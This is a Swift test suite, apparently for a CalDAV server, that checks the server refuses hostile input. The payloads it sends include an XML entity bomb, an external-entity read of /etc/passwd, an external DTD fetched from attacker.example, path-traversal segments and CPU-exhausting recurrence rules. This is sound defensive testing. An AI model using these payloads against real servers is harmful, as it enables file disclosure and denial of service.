import HTTP
import Postgres
import Storage
import TestSupport
import Testing
import XML

@Suite("Hostile input")
struct HostileInputTests {
    let client: Client

    init() throws { client = try Client() }

    /// The methods that read XML.
    private static let readers: [HTTP.Method] = [.propfind, .proppatch, .report, .mkcalendar, .mkcol]

    @Test("XML bombs, external entities and document types are refused in every body", arguments: readers)
    func entities(method: HTTP.Method) throws {
        let texts = [
            "<!DOCTYPE a [<!ENTITY x \"xxxxxxxxxx\"><!ENTITY y \"&x;&x;&x;&x;&x;&x;\"><!ENTITY z \"&y;&y;&y;&y;&y;\">]>"
                + "<d:propfind xmlns:d=\"DAV:\"><d:prop>&z;</d:prop></d:propfind>",
            "<!DOCTYPE a [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><d:propfind xmlns:d=\"DAV:\"><d:prop>"
                + "<d:displayname>&x;</d:displayname></d:prop></d:propfind>",
            "<!DOCTYPE a SYSTEM \"http://attacker.example/a.dtd\"><d:propfind xmlns:d=\"DAV:\"/>",
        ]
        for text in texts {
            let answer = try client.send(method, client.home + "x/", ["Depth": "0", "Content-Type": "text/xml"], text)
            #expect(answer.status == 403)
            #expect(answer.error == "d:no-external-entities")
            #expect(!answer.text.contains("root:"))
        }
    }

    @Test("deep, wide and broken XML is refused", arguments: readers)
    func shapes(method: HTTP.Method) throws {
        let texts: [[UInt8]] = [
            Array((String(repeating: "<a>", count: 50_000) + String(repeating: "</a>", count: 50_000)).utf8),
            Array(("<a>" + String(repeating: "<b/>", count: 200_000) + "</a>").utf8),
            Array(("<a " + (0..<150_000).map { "a\($0)=''" }.joined(separator: " ") + "/>").utf8),
            Array("<a>\u{1}</a>".utf8), [0xFF, 0xFE, 0x3C], Array("<a>".utf8) + [0xC3, 0x28] + Array("</a>".utf8),
            Array("<a></b>".utf8), Array("<a:b/>".utf8), [0],
        ]
        for text in texts {
            let answer = try client.send(
                method, client.home + "x/", ["Depth": "0", "Content-Type": "text/xml"], octets: text)
            #expect([400, 413].contains(answer.status), "\(answer.status) for \(text.prefix(30))")
        }
    }

    @Test("bodies of ten megabytes end with 413 or a condition")
    func large() throws {
        let ten = [UInt8](repeating: UInt8(ascii: "x"), count: 10 << 20)
        #expect(try client.send(.put, client.personal + "a.ics", [:], octets: ten).error == "c:max-resource-size")
        #expect(try client.send(.put, client.personal + "a.ics", [:], octets: ten + [0]).status == 413)
        #expect([400, 413].contains(try client.send(.report, client.personal, [:], octets: ten).status))
        #expect(try client.send(.propfind, client.personal, ["Depth": "0"], octets: ten).status == 413)
        let property =
            "<d:set><d:prop><x:p xmlns:x=\"urn:x\">\(String(repeating: "x", count: 70_000))</x:p></d:prop></d:set>"
        #expect(try client.patch(client.personal, property).only?.failed == ["{urn:x}p": 507])
    }

    @Test("a multiget of 100,000 addresses is refused, one of 15,000 answered")
    func manyAddresses() throws {
        func hrefs(_ count: Int) -> String {
            "<d:prop><d:getetag/></d:prop>"
                + (0..<count).map { "<d:href>\(client.personal)\($0).ics</d:href>" }.joined()
        }
        let refused = try client.report(client.personal, "c:calendar-multiget", hrefs(100_000))
        #expect((400..<500).contains(refused.status))
        let many = try client.report(client.personal, "c:calendar-multiget", hrefs(15_000))
        #expect(many.parts.count == 15_000)
    }

    @Test("filters that are deep or many are refused")
    func filters() throws {
        let deep = vCalendar(
            "<c:comp-filter name=\"VEVENT\">" + String(repeating: "<c:comp-filter name=\"X\">", count: 50)
                + String(repeating: "</c:comp-filter>", count: 50) + "</c:comp-filter>")
        #expect([207, 400, 403].contains(try client.query(client.personal, deep).status))
        let wide = vCalendar(
            "<c:comp-filter name=\"VEVENT\">" + String(repeating: "<c:prop-filter name=\"X\"/>", count: 10_000)
                + "</c:comp-filter>")
        #expect(try client.query(client.personal, wide).error == "c:supported-filter")
    }

    @Test(
        "control characters and broken encodings in paths are refused",
        arguments: [
            "a%00b.ics", "a%0Ab.ics", "a%7F.ics", "%FF.ics", "%C3.ics", "%", "%zz", "%2E%2E",
        ])
    func paths(segment: String) throws {
        for method: HTTP.Method in [.get, .put, .propfind, .delete] {
            do {
                let answer = try client.send(method, client.personal + segment, ["Depth": "0"], event("a"))
                #expect([400, 404].contains(answer.status), "\(method) \(answer.status)")
            } catch is RequestError {
                continue  // refused before any route, as nginx's request line is read
            }
        }
        let move = try {
            try client.put(client.personal + "m.ics", event("m"))
            return try client.send(.move, client.personal + "m.ics", ["Destination": client.personal + segment])
        }()
        #expect([400, 403, 404].contains(move.status), "\(move.status)")
    }

    @Test("rules and windows that would cost years of computing end at once")
    func costly() throws {
        for (uid, content) in [
            ("a", "DTSTART:16000101T000000Z\nRRULE:FREQ=SECONDLY"),
            (
                "b",
                "DTSTART:16000101T000000Z\n"
                    + "RRULE:FREQ=MINUTELY;BYSECOND=\((0..<60).map(String.init).joined(separator: ","))"
            ),
            ("c", "DTSTART:16000101T000000Z\nRRULE:FREQ=YEARLY;BYMONTH=2;BYMONTHDAY=30;BYHOUR=1;BYMINUTE=1"),
            ("d", "DTSTART:16000101T000000Z\nRRULE:FREQ=DAILY;INTERVAL=2147483647"),
            ("e", "DTSTART:16000101T000000Z\nRRULE:FREQ=DAILY;COUNT=2147483647"),
        ] {
            let answer = try client.put(client.personal + uid + ".ics", event(uid, content))
            #expect(answer.status == 201 || answer.error != nil, "\(uid): \(answer.status)")
        }
        let all = range("16000101T000000Z", "99991231T235959Z")
        let filter = vCalendar("<c:comp-filter name=\"VEVENT\">\(all)</c:comp-filter>")
        #expect(try client.query(client.personal, filter).status == 207)
        let expanded = try client.query(
            client.personal, filter,
            "<c:calendar-data><c:expand start=\"16000101T000000Z\" end=\"99991231T235959Z\"/></c:calendar-data>")
        #expect(expanded.status == 207)
        #expect(try client.report(client.personal, "c:free-busy-query", all).status == 200)
        for (start, end) in [("00010101T000000Z", "00010102T000000Z"), ("99990101T000000Z", "99991231T235959Z")] {
            #expect(
                try client.query(
                    client.personal, vCalendar("<c:comp-filter name=\"VEVENT\">\(range(start, end))</c:comp-filter>")
                ).status == 207)
        }
    }

    @Test(
        "texts of calendars may have any character of XML, and are shown as they were set",
        arguments: [
            "<&>\"' ]]>", "\u{202E}evil", "👨‍👩‍👧 عائلة", "a\tb", String(repeating: "é", count: 255),
        ])
    func names(name: String) throws {
        let escaped = name.replacing("&", with: "&amp;").replacing("<", with: "&lt;").replacing(">", with: "&gt;")
        _ = try client.patch(
            client.personal, "<d:set><d:prop><d:displayname>\(escaped)</d:displayname></d:prop></d:set>")
        #expect(try client.properties(client.personal, "<d:displayname/>").only?.ok["d:displayname"]?.text == name)
    }
}
